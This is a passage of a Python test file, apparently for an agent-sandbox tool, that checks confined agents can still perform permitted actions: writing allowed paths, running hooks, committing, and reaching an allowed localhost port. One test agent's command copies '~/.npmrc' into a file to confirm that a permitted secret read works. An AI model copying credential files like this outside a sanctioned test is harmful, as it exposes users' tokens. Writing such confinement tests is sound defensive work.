    return works(ground.loop("echo x > ~/allowed/x && touch done", "test -f done"), (ground.outside / "directory/x").exists())


def committed(ground):
    done = ground.loop("echo x > x", "test -f x", "--worktree")
    return works(done, "x" in ground.sh("git ls-tree --name-only piton/r").stdout.split())


def honest_hooks(ground):
    config("[hooks.h]\npoints = ['post_iteration']\ncommand = 'echo hook > hooked'\n[metrics]\nsize = { command = 'wc -c < README' }\n")(
        ground)
    done = ground.loop("echo x > x", "test -f x", "--until", "cmd:test -f x")
    return works(done, (ground.repo / "hooked").exists())


def honest_agent(ground):
    ground.put(ground.home / ".mine/config.toml", "safe = true\n")
    config("[agents.mine]\ncommand = ['sh', '-c', 'cat ~/.mine/config.toml > settings && echo login > ~/.mine/login && cat ~/.npmrc > key && touch done']\n"
           "writes = ['~/.mine']\nsettings = ['~/.mine/config.toml']\n[confine]\nread = ['~/.npmrc']\n")(ground)
    done = ground.piton("loop", "x", "--id", "r", "--here", "--agent", "mine", "--check", "c=test -f done", "--max-iterations", "1",
                        *ground.walls())
    return works(done, (ground.home / ".mine/login").exists(), SECRET in (ground.repo / "key").read_text())


def honest_port(ground):
    ground.server = Server(ground, socket.AF_INET, ("127.0.0.1", 0))
    port = ground.server.socket.getsockname()[1]
    config(f"[confine]\nnetwork = ['localhost:{port}']\n")(ground)
    line = python(f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), 5)\ns.sendall(b'hit')\nopen('done', 'wb').write(s.recv(20))\n")(ground)
    return works(ground.loop(line, "test -s done"), heard(ground))
